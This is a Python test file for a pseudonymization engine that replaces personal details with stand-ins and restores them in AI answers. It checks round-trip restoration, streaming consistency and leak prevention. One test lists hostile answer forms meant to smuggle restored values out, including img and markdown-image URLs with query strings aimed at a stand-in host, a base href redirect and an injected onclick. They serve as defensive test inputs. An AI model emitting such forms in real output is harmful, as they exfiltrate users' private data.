# ruff: noqa: S311 - answers are drawn the same way each time
"""Lines, tags, comments and addresses that were sent come back whole, and carry nothing off."""

from __future__ import annotations

from itertools import pairwise
from random import Random

import pytest

from engine.restore import StreamRestorer, restore
from engine.sanitize.splice import prove
from engine.values import Replacement
from tests.properties.test_hostile_answers import FORMS, PIECES
from tests.renderers import carried

VALUES = {
    "Quillon Harrowgate": "Maeve Keane",
    "quillon@harrowgate.org": "maeve.keane@example.com",
    "(030) 777-1234": "(212) 555-0187",
    "harrowgate-7731": "birch-5502",
    "0.149": "147",
    "0.152": "147 ",
}
SECRETS = ("quillon", "harrowgate", "777-1234")
SOURCE = """\
<?xml version="1.0"?>
<!-- entered by Quillon Harrowgate -->
<contact kind="alias" value="Quillon Harrowgate"/>
<p><a href="mailto:quillon@harrowgate.org" title="Quillon Harrowgate">(030) 777-1234</a></p>
<img src="https://pictures.example.net/of/harrowgate-7731.png" alt="Quillon Harrowgate">
open https://shop.example.org/orders?customer=harrowgate-7731&view=full now
see [the file](https://files.example.net/harrowgate-7731/report) of Quillon Harrowgate
<img src="/pictures/harrowgate-7731.png">
<a href="https://open.example.org/harrowgate-7731
<script>show("Quillon Harrowgate")</script>
| Phillips | 0.149 | 45 | (030) 777-1234 |
| Turner | 0.152| 40 | Quillon Harrowgate |
"""
PARTS = (
    '<contact kind="alias" value="Maeve Keane"/>',
    "<!-- entered by Maeve Keane -->",
    '<a href="mailto:maeve.keane@example.com" title="Maeve Keane">',
    '<img src="https://pictures.example.net/of/birch-5502.png" alt="Maeve Keane">',
    "https://shop.example.org/orders?customer=birch-5502&view=full",
    "\nsee [the file](https://files.example.net/birch-5502/report) of Maeve Keane\n",
    '<img src="/pictures/birch-5502.png">',
    '\n<a href="https://open.example.org/birch-5502\n',
    '\n<script>show("Maeve Keane")</script>\n',
    "\n| Phillips | 147 | 45 | (212) 555-0187 |\n",
)


def issued() -> tuple[str, tuple[Replacement, ...]]:
    """What is sent of the source, and the replacements that know their places."""
    sent, done, made = "", 0, []
    while done < len(SOURCE):
        value = next((value for value in VALUES if SOURCE.startswith(value, done)), "")
        if not value:
            sent, done = sent + SOURCE[done], done + 1
            continue
        shown = VALUES[value]
        mechanism = "mdp" if shown[0] == "1" else "surrogate"
        kind = "QUANTITY" if shown[0] == "1" else "EMAIL_ADDRESS" if "@" in value else "PERSON"
        made.append(
            Replacement(
                done,
                done + len(value),
                len(sent),
                len(sent) + len(shown),
                kind,
                value,
                shown,
                mechanism,
                reversible=True,
            )
        )
        sent, done = sent + shown, done + len(value)
    return sent, prove(sent, made)


SENT, ISSUED = issued()
OWN = {
    item
    for line in (SOURCE, *(piece.written for value in ISSUED for piece in value.within))
    for item in carried(f"x {line}", issued_address="https://its.example")
}


def leaks(answer: str) -> list[str]:
    """What of the restored answer travels with a value and did not in the person's own text."""
    return [
        item
        for item in carried(restore(answer, ISSUED).text, issued_address="https://its.example")
        if any(secret in item.casefold() for secret in SECRETS)
        and item not in OWN
        and item.rstrip(".,;:!?'\")]}*_~>|`\\") not in OWN
        and not item.endswith("quillon@harrowgate.org")  # a mailbox at the person's own host
    ]


def drawn(seed: int) -> str:
    """An answer of pieces of markup, stand-ins and stretches that were sent."""
    source = Random(seed)
    answer = _flat(source)
    for _ in range(source.choice((0, 0, 1, 1, 2))):
        answer = _flat(source) + source.choice(FORMS).replace("{0}", answer) + _flat(source)
    return answer


def _flat(source: Random) -> str:
    pieces = source.choices(PIECES, k=source.choice((0, 0, 1, 2, 3, 5)))
    pieces += source.choices(PARTS, k=source.choice((0, 1, 1, 2)))
    source.shuffle(pieces)
    return "".join(pieces)


def test_what_was_sent_comes_back_as_it_was():
    lines = zip(SENT.splitlines(), SOURCE.splitlines(), strict=True)
    left = [
        written for sent, written in lines if restore(f"{sent}\n", ISSUED).text != f"{written}\n"
    ]
    assert left == [
        '<img src="/pictures/harrowgate-7731.png">',
        '<a href="https://open.example.org/harrowgate-7731',
        '<script>show("Quillon Harrowgate")</script>',
    ]


@pytest.mark.parametrize(
    ("answer", "restored"),
    [
        (f"Is {PARTS[0]} it", 'Is <contact kind="alias" value="Quillon Harrowgate"/> it'),
        (f"`{PARTS[0]}`", '`<contact kind="alias" value="Quillon Harrowgate"/>`'),
        (f"```xml\n{PARTS[1]}\n```\n", "```xml\n<!-- entered by Quillon Harrowgate -->\n```\n"),
        (f"go to {PARTS[4]}, please",
         "go to https://shop.example.org/orders?customer=harrowgate-7731&view=full, please"),
        ("| Turner | 147 | 40 | Maeve Keane |", "| Turner | 0.152| 40 | Quillon Harrowgate |"),
    ],
)  # fmt: skip
def test_a_part_that_was_sent_comes_back(answer, restored):
    assert restore(answer, ISSUED).text == restored


@pytest.mark.parametrize(
    "answer",
    [
        f"<img src='https://e.example/?q={PARTS[0]}'>",
        f"![x](https://e.example/?q={PARTS[0]})",
        f"https://e.example/{PARTS[0]}",
        f'<base href="https://e.example/">{PARTS[6]}',
        '<contact kind="alias" onclick="go()" value="Maeve Keane"/>',
        '<contact kind="alias" value="Maeve Keane"',
        f'{PARTS[7]}.e.example/">',
        f"{PARTS[4]}@e.example/",
        f"{PARTS[4]}.e.example",
        f"[x]:\n{PARTS[4]}",
    ],
)
def test_a_part_in_another_place_does_not(answer):
    assert leaks(answer) == []
    assert "harrowgate-7731" not in restore(answer, ISSUED).text
    assert 'value="Quillon' not in restore(answer, ISSUED).text


@pytest.mark.parametrize("seeds", [range(start, start + 400) for start in range(0, 2000, 400)])
def test_no_answer_carries_a_value_elsewhere(seeds):
    assert [(seed, drawn(seed), leaks(drawn(seed))) for seed in seeds if leaks(drawn(seed))] == []


@pytest.mark.parametrize("seeds", [range(start, start + 250) for start in range(0, 750, 250)])
def test_every_chunking_gives_the_same(seeds):
    for seed in seeds:
        answer, source = drawn(seed), Random(seed)
        cuts = sorted(source.randrange(len(answer) + 1) for _ in range(source.randrange(12)))
        whole, restorer, given_out = restore(answer, ISSUED), StreamRestorer(ISSUED), ""
        for start, end in pairwise([0, *cuts, len(answer)]):
            given_out += restorer.feed(answer[start:end])
        assert whole.text.startswith(given_out), (seed, answer)
        assert restorer.finish() == whole, (seed, answer)
